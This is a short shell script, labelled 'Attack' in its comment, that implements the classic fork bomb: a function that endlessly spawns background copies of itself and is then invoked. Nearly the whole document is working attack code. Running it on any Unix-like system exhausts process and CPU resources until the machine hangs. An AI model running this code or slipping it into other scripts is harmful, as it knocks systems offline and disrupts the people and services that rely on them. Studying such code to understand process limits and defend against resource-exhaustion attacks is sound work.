# Attack: the classic shell fork bomb. Every shell forks copies of itself without end; a shell
# whose fork fails dies, which frees a slot for the others to fill again.
bomb() {
    while :; do
        bomb &
    done
}
bomb
